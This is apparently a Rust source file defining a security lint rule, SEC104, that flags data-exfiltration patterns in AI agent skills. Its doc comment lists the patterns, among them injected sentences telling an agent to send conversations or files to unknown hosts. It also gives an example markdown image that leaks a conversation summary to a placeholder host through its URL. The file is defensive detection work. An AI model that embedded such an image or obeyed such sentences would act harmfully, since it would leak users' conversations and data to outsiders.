//! SEC104 data-exfiltration.

use skillc_core::Skill;
use skillc_lint::{Findings, Rule, RuleMeta, declare_rule};

use crate::security::report;

declare_rule! {
    /// Reports commands and instructions that send the user's data, or data about the machine, to an unexpected destination.
    ///
    /// ## Why
    /// The rule reports:
    ///
    /// - requests that send the names of the user and the machine to a service that collects requests
    /// - whole folders or repositories that are sent to an unknown host
    /// - DNS lookups of host names that contain data, also in encoded parts
    /// - images whose address contains data
    /// - lasting proxies on an unknown host, as an error if the proxy can read encrypted traffic, and git settings that
    ///   push to such a host
    /// - sentences that tell the agent to send conversations, files or account data to an unknown host
    /// - programs, such as hooks, that send the log of the user's session with the agent to an unknown host
    /// - programs and mail rules that send copies of the user's messages to an address that the skill sets, and tool
    ///   descriptions that ask for such copies
    ///
    /// The rule also checks encoded text, such as base64, after decoding it: see [what is
    /// read](../../security-scan.md#what-is-read).
    ///
    /// Some findings are only warnings: for example, a finding about a command that pushes a repository with its whole
    /// history, unless the command runs silently or from a Git hook. In a [skill about
    /// security](../../security-scan.md#how-findings-are-decided), most findings are only warnings, or are not
    /// reported.
    ///
    /// ## What is not reported
    /// - data that is displayed or stays on the machine
    /// - data that is sent to a known vendor
    /// - sentences that tell the agent to ask the user first
    ///
    /// ## Example
    /// ```markdown
    /// ![status](https://img.invalid/p.png?data={conversation_summary})
    /// ```
    /// Remove the image.
    pub(crate) struct DataExfiltration {
        code: "SEC104",
        name: "data-exfiltration",
        severity: Error,
        since: "0.3.0",
        activation: OnRequest,
    }
}

impl Rule for DataExfiltration {
    fn meta(&self) -> &RuleMeta {
        Self::META
    }

    fn check_skill(&self, skill: &Skill, out: &mut Findings<'_>) {
        report(&Self::META.code, skill, out);
    }
}
